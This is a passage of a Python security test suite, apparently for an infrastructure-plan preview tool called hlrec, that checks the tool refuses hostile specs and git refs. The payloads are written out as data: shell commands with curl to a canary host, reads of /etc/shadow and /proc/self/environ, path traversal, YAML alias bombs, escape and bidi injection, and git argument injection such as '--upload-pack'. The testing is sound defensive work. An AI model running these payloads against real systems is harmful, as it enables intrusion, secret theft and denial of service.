    hostile(bench, world, "outputs of live objects are put into sight", world.changed(("note: base", 'note: "${container.db.environment.PASSWORD} ${container.web.environment.PLAIN} ${setup_key.join.id} ${group.admins.id} ${container.db.environment}"')), wanted=(0, 3))
    for what, spec in {"a secret is moved to another name": world.spec.replace("  GEN: {", "  OTHER: {").replace("secret.GEN", "secret.OTHER") + "moved: [{from: secret.GEN, to: secret.OTHER}]\n",
                       "a secret becomes a container": world.spec + "moved: [{from: secret.GEN, to: container.web}]\n",
                       "a container is moved onto another": world.spec.replace("  db:\n", "  x: {image: x}\n  db:\n") + "moved: [{from: container.foreign, to: container.x}]\n",
                       "moves go in a circle": world.spec + "moved: [{from: container.web, to: container.db}, {from: container.db, to: container.web}]\n",
                       "a secret is let go of": world.spec.replace('  VAL: {value: "${setup_key.join.key}", write: [{dotenv: "' + world.outside + '/app.env"}]}\n', "") + "removed: [{address: secret.VAL, destroy: false}]\n",
                       "what is not there is removed": world.spec + "removed: [container.none, secret.none]\n"}.items():
        hostile(bench, world, what, {"hlrec.yaml": spec}, wanted=(0, 3, 8))


# ---- sources that run or read something ----


def sources(tap, world, bench):
    tap.section = "sources"
    witness = os.path.join(world.outside, "witness")
    secret = "  ENV: {env: M_ENV}"
    for what, body in {"a command": f"{{command: [touch, '{witness}']}}", "a shell": f"{{command: [sh, -c, 'touch {witness}; curl {world.canary.url}']}}", "/etc/shadow": "{file: /etc/shadow}", "a file outside": f"{{file: '{world.outside}/shadow.txt'}}",
                       "hlrec's own environment": "{file: /proc/self/environ}", "an encrypted file outside": f"{{sops: {{file: '{world.outside}/shadow.txt', key: x}}}}", "another variable": "{env: M_UNUSED}",
                       "a write to the host": f"{{env: M_ENV, write: [{{dotenv: '{witness}'}}, {{file: '{witness}2'}}]}}", "nothing": "", "a list": "[1]", "a text": "x"}.items():
        hostile(bench, world, f"a secret of the base comes from {what}", world.changed((secret, f"  ENV: {body}")), has=("secrets.ENV",))
        hostile(bench, world, f"a new one comes from {what}", world.changed((secret, f"{secret}\n  EVIL: {body}"), ("note: base", 'note: "${secret.EVIL}"')), has=("secrets.EVIL",))
    etc = os.path.relpath(os.path.join(world.outside, "passwd.txt"), "/")
    for what, path in {"a path that leads out": "../../../../../../" + etc, "an absolute path": world.outside + "/passwd.txt", "/etc/passwd": "/etc/passwd", "a path within that leads out": "a/../../../../../../" + etc, "/proc/self/environ": "/proc/self/environ",
                       "a link": "link", "a linked folder": "folder/passwd.txt", "a submodule": "module/x", "a name with a line end": "a\\nb", "a device": "/dev/zero"}.items():
        files = {"link": ("120000", world.outside + "/passwd.txt"), "folder": ("120000", world.outside), "module": ("160000", "1" * 40)}
        hostile(bench, world, f"a template is {what}", dict(world.changed(("template: app.conf", f'template: "{path}"')), **files), wanted=(3,))
        hostile(bench, world, f"an env_file is {what}", dict(world.changed(("    expose", f'    env_file: "{path}"\n    expose')), **files), wanted=(3,))
        hostile(bench, world, f"a container's file comes from {what}", dict(world.changed(("files: {", f'files: {{/x: {{source: "{path}"}}, /y: {{file: "{path}"}}, ')), **files), wanted=(3,))
    for what, link in {"the spec is a link to the host": ("120000", "/etc/shadow"), "the spec is a link within": ("120000", "app.conf"), "the spec is a submodule": ("160000", "2" * 40), "the spec is a folder": ("40000", world.repository.tree({"x": "y"})),
                       "the spec is in LFS": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "4" * 64 + "\nsize 12345\n"}.items():
        hostile(bench, world, what, {"hlrec.yaml": link}, wanted=(3,))
    tap.point(not os.path.exists(witness) and not os.path.exists(witness + "2"), "nothing was run or written")


# ---- what is too much ----


def bombs(tap, world, bench):
    tap.section = "too much"
    head = world.spec
    hostile(bench, world, "a spec of 5 MB", {"hlrec.yaml": head + "# " + "x" * (5 * 1024 * 1024) + "\n"}, wanted=(3,))
    many = "".join(f"  v{number}: {{}}\n" for number in range(200000))
    hostile(bench, world, "200,000 resources", {"hlrec.yaml": head.replace("volumes: {data: {}}\n", "volumes:\n  data: {}\n" + many)}, wanted=(3,), has=("a preview takes 100000 more",))
    hostile(bench, world, "200,000 secrets", {"hlrec.yaml": head.replace("secrets:\n", "secrets:\n" + "".join(f"  S{number}: x\n" for number in range(200000)))}, wanted=(3,), has=("a preview takes 100000 more",))
    hostile(bench, world, "40,000 mistakes", {"hlrec.yaml": head + "".join(f"k{number}: x\n" for number in range(40000))}, wanted=(3,))
    hostile(bench, world, "100,000 references", world.changed(("note: base", "note: \"" + "${secret.GEN}" * 100000 + '"')), wanted=(0, 3))
    laughs = "x-a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(f"x-a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]\n" for n in range(1, 12))
    hostile(bench, world, "a bomb of aliases", {"hlrec.yaml": laughs + head}, wanted=(0, 3))
    for place, pair in {"a command": ("    expose", "    command: *a11\n    expose"), "a label": ("note: base", "note: *a11"), "an output": ('value: "https://app.${var.domain}"', "value: *a11"), "a variable": ("  domain: {", "  bomb: {default: *a11}\n  domain: {"),
                        "a provider": ("  traefik: {", "  bomb: {type: netbird, url: *a11}\n  traefik: {"), "a provider of the base": ('token: "${env.M_TOKEN}"', "token: *a11"), "settings": ("{max_destroy: 5}", "{max_destroy: 5, window: *a11}")}.items():
        hostile(bench, world, f"a bomb of aliases in {place}", {"hlrec.yaml": laughs + world.changed(pair)["hlrec.yaml"]}, wanted=(0, 3))
    merges = "x-m0: &m0 {a: 1}\n" + "".join(f"x-m{n}: &m{n} {{" + ", ".join(f"k{i}: *m{n - 1}" for i in range(10)) + "}\n" for n in range(1, 12))
    hostile(bench, world, "a bomb of merges", {"hlrec.yaml": merges + world.changed(("labels: {note: base}", "labels: {<<: *m11}"))["hlrec.yaml"]}, wanted=(0, 3))
    hostile(bench, world, "an alias to itself", {"hlrec.yaml": "x-l: &l [*l]\n" + head}, wanted=(3,))
    for what, open_, close in (("lists", "[", "]"), ("mappings", "{a: ", "}")):
        hostile(bench, world, f"100,000 {what} within each other", {"hlrec.yaml": head + "x-deep: " + open_ * 100000 + close * 100000 + "\n"}, wanted=(3,))
        hostile(bench, world, f"900 {what} within each other in a command", {"hlrec.yaml": "x-deep: &d " + open_ * 900 + close * 900 + "\n" + world.changed(("    expose", "    command: *d\n    expose"))["hlrec.yaml"]}, wanted=(0, 3))
    deep = "/".join(["d"] * 2000)
    hostile(bench, world, "a path of 2,000 folders", world.changed(("template: app.conf", f"template: {deep}")), wanted=(3,))
    hostile(bench, world, "a file that is small only while it is packed", dict(world.changed(("template: app.conf", "template: bomb")), bomb=b"\0" * (64 * 1024 * 1024)), wanted=(3,), has=("67108864 bytes",))
    hostile(bench, world, "a spec of the same sort", {"hlrec.yaml": b"#" * (32 * 1024 * 1024)}, wanted=(3,), has=("33554432 bytes",))
    hostile(bench, world, "a spec of NULs", {"hlrec.yaml": b"\0" * 1000}, wanted=(3,))
    hostile(bench, world, "a spec that is not text", {"hlrec.yaml": bytes(range(256)) * 20}, wanted=(3,))
    hostile(bench, world, "an empty spec", {"hlrec.yaml": ""}, wanted=(3,))
    hostile(bench, world, "a spec that is a list", {"hlrec.yaml": "- a\n- b\n"}, wanted=(3,))
    hostile(bench, world, "a spec of two documents", {"hlrec.yaml": head + "---\n" + head}, wanted=(3,))
    hostile(bench, world, "UTF-16", {"hlrec.yaml": b"\xff\xfe" + head.encode("utf-16-le")}, wanted=(0, 3))
    hostile(bench, world, "the spec is gone", {"hlrec.yaml": None}, wanted=(3,))


# ---- what is printed ----


def writing(tap, world, bench):
    tap.section = "writing"
    nasty = "\\e[31m\\e]0;t\\a\\r\\b\\x7f\\x9b\\u202e\\u2066\\u200b\\ufeff\\u2028<script>alert(1)</script> <img src=http://x/y> ![x](http://x/y) ``` </details> @everyone #1 fixes #1 | a | <!-- hlrec -->"
    quick = "/merge\\n/approve\\n\\n/close\\n```\\n# Plan: 0 to create"
    hostile(bench, world, "escapes and markup in a value", world.changed(("note: base", f'note: "{nasty}", other: "{quick}"'), ("OPEN: open", f'OPEN: "{nasty} {quick}"')))
    hostile(bench, world, "in a new object", world.changed(("  db:\n", f'  fresh: {{image: x, description: "{nasty}", environment: {{A: "{nasty}", "B{nasty}": x}}, labels: {{"{nasty}": "{quick}"}}}}\n  db:\n')), wanted=(0, 3))
    hostile(bench, world, "in a file's text", dict(world.changed(('vars: {TOKEN: "${secret.FILE}"}', "vars: {TOKEN: x}")), **{"app.conf": "\x1b[31m\u202e ``` \n/merge\n@everyone </details>\n" + "x\n" * 300}))
    for what, pair in {"the key of a container": ("  db:\n", f'  "{nasty}": {{image: x}}\n  db:\n'), "an unknown key": ("    expose", f'    "{nasty}": x\n    expose'), "a top key": ("outputs:", f'"{nasty}": x\noutputs:'), "a secret's name": ("  ENV: {env", f'  "{nasty}": {{env: X}}\n  ENV: {{env'),
                       "a provider's name": ("  traefik:", f'  "{nasty}": {{type: docker}}\n  traefik:'), "a variable's name": ("  domain:", f'  "{nasty}": x\n  domain:'), "an output's name": ("{where: {", f'{{"{nasty}": x, where: {{'), "a reference": ("note: base", f'note: "${{container.{nasty}}}"'),
                       "a group's name": ("groups: {admins: {}}", f'groups: {{admins: {{}}, "{nasty}": {{}}}}'), "a template's name": ("template: app.conf", f'template: "{nasty}"'), "an image": ("nginx:1.27", f'"{nasty}"'), "an allowed word": ("    expose", f'    restart: "{nasty}"\n    expose'),
                       "what is moved": ("outputs:", f'moved: [{{from: "{nasty}", to: "{nasty}"}}]\noutputs:'), "what is ignored": ("    expose", f'    ignore: ["{nasty}"]\n    expose'), "the stack": ("stack: home", f'stack: "{nasty}"'), "the settings": ("max_destroy: 5", f'max_destroy: "{nasty}"'),
                       "the adopted id": ("    expose", f'    adopt: "{nasty}"\n    expose'), "a type": ("type: reusable", f'type: "{nasty}"')}.items():
        hostile(bench, world, f"in {what}", world.changed(pair), wanted=(0, 3, 8))
    hostile(bench, world, "raw control characters in the text", {"hlrec.yaml": world.spec.replace("note: base", "note: 'a\x1b[2Jb\x07'")}, wanted=(3,))
    hostile(bench, world, "raw marks of direction in the text", {"hlrec.yaml": world.spec.replace("note: base", "note: 'a\u202eb\u200b', 'x\u202ey': z") + "'k\u202e\u2066': x\n"}, wanted=(3,))
    hostile(bench, world, "and in a comment behind a mistake", {"hlrec.yaml": world.spec.replace("    expose: [\"80\"]", "    expose: [\"80\"]\n    wrong: 1 # \u202e\u2066\x85")}, wanted=(3,))
    tap.section = "mistakes"
    for what, pairs in {"a literal where a secret belongs": (('token: "${env.M_TOKEN}"', 'token: [1, 2]'),), "a secret in a field of another type": (("    expose", '    privileged: "${secret.GEN}"\n    stop_grace_period: "${env.M_UNUSED}"\n    expose'),),
                        "references that lead nowhere": (("note: base", 'note: "${secret.GENN}${secret.ENV.x}${env.}${var.none}"'),), "a cycle": (("  db:\n", "  a: {image: x, needs: [container.b]}\n  b: {image: x, needs: [container.a]}\n  db:\n"),),
                        "a secret that refers to itself": (("  ENV: {env: M_ENV}", '  ENV: {value: "${secret.ENV}"}'),), "keys that are there twice": (("secrets:\n", f'secrets:\n  GEN: {{file: /etc/shadow}}\n'),),
                        "a provider that is there twice": (("  traefik:", f'  netbird: {{url: "{world.canary.url}"}}\n  traefik:'),), "another format": (("hlrec: 1", "hlrec: 2"),), "a mistake in a secret": (("  ENV: {env: M_ENV}", "  ENV: {env: M_ENV, wrong: 1, generate: {length: -1}}"),),
                        "no resources for what is named": (("volumes: {data: {}}\n", ""), ("networks: {net: {}}\n", ""))}.items():
        hostile(bench, world, what, world.changed(*pairs), wanted=(0, 3, 8))


# ---- guards, and what the plan is about ----


def guards(tap, world, bench):
    tap.section = "guards"
    lone = re.sub(r"  VAL: .*\n", "", world.spec)
    emptied = "hlrec: 1\nstack: home\n" + lone[lone.index("variables:"):lone.index("networks:")] + "volumes: {data: {}}\nsettings: {max_destroy: 100%}\n"
    both = hostile(bench, world, "everything is deleted, and the limit lifted", {"hlrec.yaml": emptied}, wanted=(8,), has=("settings", "container.web"), forms=BOTH)
    tap.point("REFUSED" in both["human"].out and "max_destroy" in both["human"].out, "the base's limit counts", both["human"].text)
    hostile(bench, world, "all but the first lines is gone", {"hlrec.yaml": "hlrec: 1\nstack: home\n"}, wanted=(3, 8))
    hostile(bench, world, "even the providers and secrets go", {"hlrec.yaml": "hlrec: 1\nstack: home\ncontainers: {other: {image: x}}\nproviders: {docker: {}}\n"}, wanted=(0, 8), has=("providers.netbird", "secrets.NB"))
    hostile(bench, world, "a volume is let go", world.changed(("volumes: {data: {}}", "volumes: {data: {protect: false, labels: {a: b}}}")), wanted=(0, 8), has=("volume.data.protect",))
    hostile(bench, world, "and deleted, with `removed`", {"hlrec.yaml": world.changed(("volumes: {data: {}}\n", ""), ('    volumes: ["data:/data"]\n', ""))["hlrec.yaml"] + "removed: [{address: volume.data, destroy: true}]\n"}, wanted=(0, 8), has=("volume.data",))
    hostile(bench, world, "another stack's name", world.changed(("stack: home", "stack: media")), has=("stack",))
    other = os.path.join(world.folder, ".hlrec", "media.db")
    tap.point(not os.path.exists(other), "no state of that name comes into being")
    hostile(bench, world, "the format goes", world.changed(("hlrec: 1\n", "")), has=("hlrec",))
    hostile(bench, world, "the stack goes", world.changed(("stack: home\n", "")), has=("stack",))
    hostile(bench, world, "the only thing that a secret of the base is made of goes", {"hlrec.yaml": re.sub(r"setup_keys: .*\n", "", re.sub(r"  VAL: .*\n", '  VAL: {value: "x"}\n', world.spec))}, wanted=(0, 8), has=("setup_key.join", "secrets.VAL"))
    renamed = world.spec.replace("setup_keys: {join:", "setup_keys: {enter:").replace("setup_key.join.key", "setup_key.enter.key")
    hostile(bench, world, "or has another name", {"hlrec.yaml": renamed}, wanted=(0, 8), has=("setup_key.enter", "secrets.VAL"))
    for section in ("variables", "providers", "secrets", "networks", "volumes", "containers", "routers", "groups", "setup_keys", "outputs", "settings", "moved", "removed", "stack", "hlrec"):
        for what, text in (("null", ""), ("a text", " x"), ("a list", " [1, {a: b}]"), ("a list of lists", " [[[]]]"), ("a number", " 7"), ("a mapping of nulls", " {a: , b: {}, c: [], d: x}")):
            spec = re.sub(rf"(?m)^{section}:.*\n(?:[ ].*\n)*", "", world.spec) + f"{section}:{text}\n"
            hostile(bench, world, f"{section} is {what}", {"hlrec.yaml": spec}, wanted=(0, 3, 8), forms=("json",))


# ---- git ----


def asked_for(world, wanted, witness, *arguments):
    with Watch(world) as watch:
        result = world.run("plan", "--preview", *arguments)
    problems = watch.problems + [f"LEAKED {leak}" for leak in world.leaks(result.text)] + [f"{found} in the output" for found in unsafe_characters(result.text)]
    if result.status not in wanted or os.path.exists(witness):
        problems.append(f"exit {result.status}, {os.path.exists(witness)}\n{result.text[:2000]}")
    return problems, None


def git(tap, world, bench):
    tap.section = "git"
    witness = os.path.join(world.folder, "x")
    for ref in ("--upload-pack=touch x", "-x", "a b", "$(touch x)", "`touch x`", "a;touch x", "main~1", "main@{1}", "main^{tree}", ":/secret", "HEAD:hlrec.yaml", "../../../etc/passwd", "refs/heads/../../x", "a\nb", "a\x1b[31mb", "\u202e", "", "*", "refs/pull/*/head", "+main", "main:main",
                "deadbee", "0" * 40, "x" * 5000, "ext::sh -c touch% x"):
        bench.add(f"a ref that is none: {ref[:30]!r}", asked_for, world, (3,), witness, "--git", world.url, "--ref=" + ref, "--base", "main")
        bench.add(f"or a base that is none: {ref[:30]!r}", asked_for, world, (3,), witness, "--git", world.url, "--ref=main", "--base=" + ref)
    bench.settle()
    for ref in ("refs/heads/$(touch-x)", "refs/heads/`a`|<b>@c/merge", "refs/heads/\u202eevil\u200b", "refs/heads/-x"):
        world.repository.set(ref, world.repository.commit(dict(world.files, **world.changed(("nginx:1.27", "nginx:1.28"))), [world.base]))
        hostile(bench, world, f"a branch of the name {ref!r}", None, ref=ref)
    for path in ("../hlrec.yaml", "/etc/passwd", "a/../../x", "x\x1b[31m", "", ".git/config", "hlrec.yaml/", "./hlrec.yaml"):
        bench.add(f"the spec's path is {path!r}", asked_for, world, (0, 3), witness, "--git", world.url, "--ref", "main", "--base", "main", "--path", path)
    mine = world.repository.commit(dict(world.files, **world.changed(("nginx:1.27", "nginx:1.28"))), [world.base])
    theirs = world.repository.commit(dict(world.files, **world.changed(("nginx:1.27", "nginx:1.29"))), [world.base])
    world.repository.set("refs/heads/other-base", theirs)
    conflict = world.run("plan", "--git", world.url, "--ref", world.point_at(mine), "--preview", "--base", "other-base", "--format", "json")
    tap.point(conflict.status == 0 and json.loads(conflict.out)["preview"]["conflicts"] is True, "a proposal that does not merge is shown alone, and that is said", conflict.text)
    stranger = world.repository.commit(dict(world.files, **world.changed(("nginx:1.27", "nginx:1.30"))))
    hostile(bench, world, "a history of its own", None, ref=world.point_at(stranger), has=("nginx:1.30",))
    behind = world.repository.commit(dict(world.files, **{"other.txt": "y"}), [world.base])
    world.repository.set("refs/heads/ahead", world.repository.commit(dict(world.files, **world.changed(("note: base", "note: newer"))), [world.base]))
    result = world.run("plan", "--git", world.url, "--ref", world.point_at(behind), "--preview", "--base", "ahead")
    tap.point(result.status == 0 and "1 commit behind" in result.out and "newer" in result.out, "one that is behind is merged", result.text)
    for name in ("..", ".", ".git", "a\\b", "\x1b[31m"):
        tree = world.repository.raw_tree([("100644", name, world.repository.blob("x")), ("100644", "hlrec.yaml", world.repository.blob(world.spec)), ("100644", "app.conf", world.repository.blob("x"))])
        hostile(bench, world, f"a tree with a file named {name!r}", None, ref=world.point_at(world.repository.commit(tree, [world.base])), wanted=(0, 1, 3, 8))


# ---- the command itself ----


def command(tap, world, bench):
    tap.section = "command"
    ref = world.commit(world.changed(("nginx:1.27", "nginx:1.28")))
    saved = os.path.join(world.folder, "saved.plan")
    for what, arguments, wanted in (("apply has no preview", ("apply", "--git", world.url, "--ref", ref, "--preview", "--base", "main", "--yes"), 3), ("nor has drift", ("drift", "--git", world.url, "--ref", ref, "--preview", "--base", "main"), 3),
                                    ("a preview is not saved", ("plan", "--git", world.url, "--ref", ref, "--preview", "--base", "main", "--out", saved), 3), ("it needs a base", ("plan", "--git", world.url, "--ref", ref, "--preview"), 3),
                                    ("a base needs a preview", ("plan", "--git", world.url, "--ref", ref, "--base", "main"), 3), ("it needs git", ("plan", "--preview", "--base", "main"), 3),
                                    ("and takes no file", ("plan", "--preview", "--base", "main", "--git", world.url, "-f", "x.yaml"), 3), ("its JSON is no plan to be applied", None, 3)):
        with Watch(world) as watch:
            if arguments is None:
                with open(os.path.join(world.outside, "json.plan"), "w") as file:
                    file.write(world.preview(ref, "--format", "json").out)
                watch.files = world.snapshot()
                arguments = ("apply", os.path.join(world.outside, "json.plan"), "--yes")
            result = world.run(*arguments)
        tap.point(result.status == wanted and not watch.problems and not os.path.exists(saved), what, f"exit {result.status}\n{result.text}\n{watch.problems}")
    changed = world.preview(ref, "--detailed-exitcode")
    same = world.preview("main", "--detailed-exitcode")
    tap.equal((changed.status, same.status), (2, 0), "--detailed-exitcode", changed.text + same.text)
    bench.settle()
    for option in (("--target", "container.web"), ("--exclude", "container.web"), ("--destroy",), ("--refresh-only",), ("--replace", "container.web"), ("--adopt",), ("--allow-destroy",), ("--max-destroy", "100")):
        hostile(bench, world, " ".join(option), None, ref=ref, more=option, wanted=(0, 3, 8))
    bench.settle()
    calls = len(world.lab.calls()) + len(world.relay.requests)
    hostile(bench, world, "without looking", None, ref=ref, more=("--no-refresh",), has=("container.web",))
    bench.settle()
    tap.equal(len(world.lab.calls()) + len(world.relay.requests), calls, "--no-refresh asks nobody")
    log = os.path.join(world.outside, "run.log")
    open(log, "w").close()
    result = world.preview(ref, "--log", log)
    with open(log) as file:
        text = file.read()
    os.unlink(log)
    tap.point(result.status == 0 and not world.leaks(text), "nothing stands in the log", text)


def circumstances(tap, world, bench):
    """State, key and systems are not as they should be."""
    tap.section = "circumstances"
    ref = world.commit(world.changed(("nginx:1.27", "nginx:1.28"), ("note: base", 'note: "${secret.GEN}"')))
    elsewhere = os.path.join(world.outside, "elsewhere")
    os.makedirs(elsewhere)
    result = world.preview(ref, cwd=elsewhere)
    left = sorted(os.path.relpath(os.path.join(parent, name), elsewhere) for parent, _, names in os.walk(elsewhere) for name in names)
    tap.point(result.status in (0, 8) and not world.leaks(result.text), "without a state", f"exit {result.status} {result.text}")
    tap.point(all(name.startswith(".hlrec/git/") for name in left), "none is made, and no key", left)
    shutil.rmtree(elsewhere)
    key = [os.path.join(parent, name) for parent, _, names in os.walk(os.path.join(world.folder, ".hlrec")) for name in names if name.endswith(".key") and "git" not in parent]
    for path in key:
        os.rename(path, path + ".away")
    with Watch(world) as watch:
        result = world.preview(ref)
    tap.point(bool(key) and result.status not in (0, 139, 134) and not watch.problems and not world.leaks(result.text), "without the key it says so, and makes none", f"{key} exit {result.status}\n{result.text}\n{watch.problems}")
    for path in key:
        os.rename(path + ".away", path)
    hostile(bench, world, "with a wrong key", None, ref=ref, environment={"HLREC_KEY": base64.b64encode(b"k" * 32).decode()}, wanted=(1, 3, 7, 8))
    hostile(bench, world, "while Docker is away", None, ref=ref, environment={"HLREC_LAB_DOCKER": "unix:///nonexistent/docker.sock"}, wanted=(7,))
    gone = free_port()
    away = world.repository.set("refs/heads/away", world.repository.commit(dict(world.files, **{"hlrec.yaml": world.spec.replace(f"127.0.0.1:{world.relay.server_port}", f"127.0.0.1:{gone}")}), [world.base]))
    with Watch(world) as watch:
        result = world.run("plan", "--git", world.url, "--ref", world.point_at(away), "--preview", "--base", "away")
    tap.point(result.status == 7 and not watch.problems and not world.leaks(result.text), "while NetBird is away", f"exit {result.status}\n{result.text}\n{watch.problems}")
    # The environment of the run has nothing that the base needs.
    hostile(bench, world, "with an environment that lacks the base's variables", None, ref=ref, environment={"M_ENV": "", "M_PLAIN": "", "M_VARIABLE": "", "M_TOKEN": ""}, wanted=(7,))
    # Somebody changed what is live, and put a secret there.
    mode = os.stat(os.path.join(world.folder, ".hlrec", "home.db")).st_mode
    folder = os.path.join(world.folder, ".hlrec")
    bench.settle()
    os.chmod(os.path.join(folder, "home.db"), 0o400)
    hostile(bench, world, "with a state that cannot be written", None, ref=ref)
    bench.settle()
    os.chmod(os.path.join(folder, "home.db"), mode)


def run_scene(scene, tap, world):
    bench, started, visits = Bench(tap, world), time.monotonic(), len(world.canary.visits)
    try:
        scene(tap, world, bench)
    except Exception as problem:  # one broken scene must not hide the others
        tap.point(False, "the scene runs to its end", repr(problem))
    bench.settle()
    bench.pool.shutdown()
    time.sleep(0.05)
    tap.equal(world.canary.visits[visits:], [], "nobody was asked at the stranger's host")
    print(f"# {scene.__name__}: {time.monotonic() - started:.1f} s", flush=True)


def main():
    tap = Tap()
    stop_on_signals()
    folder = private_folder()
    world = None
    wanted = sys.argv[1:]
    try:
        world = World(folder)
        done = world.apply()
        tap.section = "base"
        ran = os.path.join(world.outside, "ran")
        if tap.equal((done.status, os.path.exists(ran)), (0, True), "the base is applied, and its programs run", done.text):
            for scene in (honest, providers, visible_places, guesses, reach, sources, writing, guards, git, command, circumstances, bombs):
                if not wanted or scene.__name__ in wanted:
                    run_scene(scene, tap, world)
            tap.section = "afterwards"
            done = world.run("plan", "--git", world.url, "--ref", "main", "--detailed-exitcode")
            tap.equal(done.status, 0, "the base's plan is still empty", done.text)
    finally:
        if world is not None:
            world.lab.stop()
            world.relay.shutdown()
        shutil.rmtree(folder, ignore_errors=True)
    tap.end()


if __name__ == "__main__":
    main()
